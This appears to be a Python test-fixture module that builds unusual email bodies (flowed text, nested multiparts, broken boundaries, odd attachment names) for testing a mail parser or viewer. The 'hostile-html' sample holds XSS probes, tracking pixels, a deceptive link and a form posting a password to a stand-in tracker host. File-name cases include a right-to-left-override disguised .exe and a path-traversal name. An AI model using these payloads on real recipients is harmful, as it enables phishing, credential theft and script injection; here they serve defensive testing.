"""Bodies of unusual shape: flowed text, nesting, broken boundaries, file names."""

from . import attachments, pictures
from .compose import Part, address, binary, crlf, enclosed, message, multipart, text

Row = tuple[str, str, str, Part]

_TOM = address("Tom Ashdown", "tom.ashdown@homepost.example")
_GIULIA = address("Giulia Sperandio", "giulia@sperandio-interni.example")
# Written long on one line, so that quoted-printable has to break it softly.
_LONG = (
    "This paragraph is one single line, because its author types without ever "
    "pressing return; it speaks of the desk by the window, of the lamp that is a "
    "little too high, of the price = 640 euros, and of a façade seen from the café "
    "across the road, and it ends only here. "
)
_PAGE = """<html><head><title>Hostile</title>
<link rel="stylesheet" href="https://styles.tracker.example/all.css">
<style>@import url(https://styles.tracker.example/more.css);
body { background:url(https://img.tracker.example/bg.png) }
.o_main_navbar { display:none } * { position:fixed }</style>
<base href="https://tracker.example/"><meta http-equiv="refresh" content="0;url=/x">
<script>document.title = "taken over";</script></head>
<body onload="alert(1)">
<p style="position:fixed;top:0;left:0;width:100%">Over it all</p>
<p>The readable text of this mail.</p>
<img src="x" onerror="alert(2)"><img src="https://img.tracker.example/p.gif?u=laura">
<a href="javascript:alert(3)">A link that is none</a>
<a href="https://login.tracker.example/">https://bank.example/</a>
<form action="https://tracker.example/steal"><input name="password"
 type="password"><button>Send</button></form>
<iframe src="https://tracker.example/frame"></iframe>
<svg onload="alert(4)"><a xlink:href="javascript:alert(5)"><text>x</text></a></svg>
<object data="https://tracker.example/o.swf"></object><video src="https://t.example/v">
</video><input autofocus onfocus="alert(6)"></body></html>
"""


def structures() -> list[Row]:
    """Case, sender, subject and body."""
    return [*_texts(), *_nested(), *_named(), *_signed()]


def _flow(content: str, params: str) -> Part:
    return text(content, params=params)


def _texts() -> list[Row]:
    soft = text(_LONG * 4 + "\n", encoding="quoted-printable")
    very_long = crlf("x = " + "1234567890 " * 180 + "\n").encode()
    return [
        ("quoted-printable-soft-breaks", _TOM, "One long paragraph", soft),
        (
            "base64-text",
            _TOM,
            "Text in base64",
            text(_LONG + "\n", encoding="base64"),
        ),
        (
            "format-flowed",
            _TOM,
            "Flowed text",
            _flow(
                "Three lines that belong together, because each of the first \n"
                "two ends with a blank; a reader joins them to one paragraph \n"
                "and wraps it as the window wants.\n\n"
                "> A quoted line that flows into \n> the next one.\n>> Deeper.\n"
                "-- \nTom\n",
                "; format=flowed",
            ),
        ),
        (
            "format-flowed-delsp",
            _TOM,
            "Flowed text with deleted blanks",
            _flow(
                "The blank before the break is not part of the te \nxt, so this "
                "word is whole.\n",
                "; format=flowed; delsp=yes",
            ),
        ),
        (
            "line-longer-than-allowed",
            _TOM,
            "A line of two thousand characters",
            Part(
                (("Content-Type", "text/plain"), ("Content-Transfer-Encoding", "8bit")),
                very_long,
            ),
        ),
        (
            "html-only",
            _GIULIA,
            "Only HTML",
            text(
                "<p>Dear Laura,</p><p>there is <b>no</b> plain text here, only "
                "<i>this</i>:</p><ul><li>oak</li><li>walnut</li></ul>\n",
                "html",
            ),
        ),
        (
            "text-only",
            _GIULIA,
            "Only text",
            text(
                "Dear Laura,\n\nno HTML here.\n\nhttps://sperandio.example/desk?a=1\n"
            ),
        ),
        ("hostile-html", _TOM, "Please log in again", text(_PAGE, "html")),
        (
            "alternative-text-empty",
            _GIULIA,
            "Empty plain text beside HTML",
            multipart(
                "alternative",
                "--=_empty-alternative",
                [text(""), text("<p>Everything is in the HTML.</p>", "html")],
            ),
        ),
    ]


def _nested() -> list[Row]:
    deep = text("At the bottom of six boxes.\n")
    for level in range(6):
        deep = multipart("mixed", f"level-{level}", [deep])
    open_end = multipart("mixed", "never-closed", [text("The end is missing.\n")])
    open_end = Part(
        open_end.headers, open_end.body.replace(b"--never-closed--\r\n", b"")
    )
    inner = message(
        (
            ("From", _TOM),
            ("To", _GIULIA),
            ("Subject", "=?utf-8?Q?The_caf=C3=A9_table?="),
            ("Date", "Tue, 4 Mar 2025 09:30:00 +0000"),
            ("Message-ID", "<cafe-table.1@homepost.example>"),
        ),
        multipart(
            "mixed",
            "inner-box",
            [
                text("Does the table come in a smaller size?\n"),
                binary("image/png", "table.png", pictures.room(1)),
            ],
        ),
    )
    return [
        ("six-levels-deep", _TOM, "Boxes in boxes", deep),
        ("boundary-never-closed", _TOM, "No last boundary", open_end),
        (
            "mail-in-mail",
            _GIULIA,
            "Attached: what Tom wrote",
            multipart(
                "mixed",
                "outer-box",
                [
                    text("See the mail attached.\n"),
                    enclosed(inner, "The café table – question from Tom.eml"),
                ],
            ),
        ),
        (
            "digest",
            _GIULIA,
            "Two mails of the mailing list",
            multipart("digest", "digest-box", [enclosed(inner), enclosed(inner)]),
        ),
        (
            "preamble-and-epilogue",
            _TOM,
            "Text around the boxes",
            Part(
                (("Content-Type", 'multipart/mixed; boundary="between"'),),
                b"If you can read this, your program is very old.\r\n"
                b"--between\r\n\r\nA part without any header.\r\n--between--\r\n"
                b"Something after the end.\r\n",
            ),
        ),
        (
            "picture-alone",
            _TOM,
            "Just a picture",
            binary("image/png", "desk.png", pictures.room(4), disposition="inline"),
        ),
    ]


def _named() -> list[Row]:
    page = attachments.pdf("Façade", ("Perù & Co",))
    long_name = (
        "Relazione conclusiva sulla qualità dell'aria e dell'illuminazione negli "
        "uffici della città – bozza riveduta e corretta, versione definitiva (2).pdf"
    )

    def with_file(case: str, name: str, style: str, note: str) -> Row:
        part = multipart(
            "mixed",
            f"box-{case}",
            [text(note + "\n"), binary("application/pdf", name, page, style=style)],
        )
        return (case, _GIULIA, f"File name: {case}", part)

    return [
        with_file(
            "filename-rfc2231-continued", long_name, "rfc2231", "Continued name."
        ),
        with_file("filename-rfc2047", long_name, "rfc2047", "Encoded words in quotes."),
        with_file("filename-raw-utf-8", "Perù città.pdf", "raw", "Undeclared name."),
        with_file("filename-none", "", "none", "A file without a name."),
        with_file(
            "filename-right-to-left-trick",
            "offer\u202efdp.exe",
            "rfc2231",
            "The name turns round in the middle.",
        ),
        with_file(
            "filename-with-path", "../../etc/offer.pdf", "raw", "A name with a path."
        ),
        (
            "many-files",
            _GIULIA,
            "Everything for the tender",
            multipart(
                "mixed",
                "box-many-files",
                [
                    text("Eight files, one of them empty.\n"),
                    *(
                        binary("application/pdf", f"sheet {n}.pdf", page)
                        for n in range(1, 6)
                    ),
                    binary("application/octet-stream", "empty.bin", b""),
                    binary("application/zip", "all.zip", _archive()),
                    binary("text/csv", "prices.csv", b"code;price\r\nAL-10;640\r\n"),
                ],
            ),
        ),
    ]


def _archive() -> bytes:
    return attachments.archive_file("all.zip", {"read me.txt": "one, two, three"}).data


def _signed() -> list[Row]:
    armour = (
        "-----BEGIN PGP SIGNATURE-----\n\n"
        "bm90IGEgcmVhbCBzaWduYXR1cmUsIG9ubHkgaXRzIHNoYXBl\n=demo\n"
        "-----END PGP SIGNATURE-----\n"
    )
    signature = Part(
        (("Content-Type", "application/pgp-signature; name=signature.asc"),),
        crlf(armour).encode(),
    )
    return [
        (
            "signed-pgp",
            _TOM,
            "Signed with a key",
            multipart(
                "signed",
                "box-signed",
                [text("The text is signed, the key is not known.\n"), signature],
                params=' micalg=pgp-sha256; protocol="application/pgp-signature";',
            ),
        ),
        (
            "winmail-dat",
            _TOM,
            "Minutes of the meeting",
            multipart(
                "mixed",
                "box-winmail",
                [
                    text("The minutes are attached.\n"),
                    binary(
                        "application/ms-tnef", "winmail.dat", b"\x78\x9f\x3e\x22\x01"
                    ),
                ],
            ),
        ),
    ]
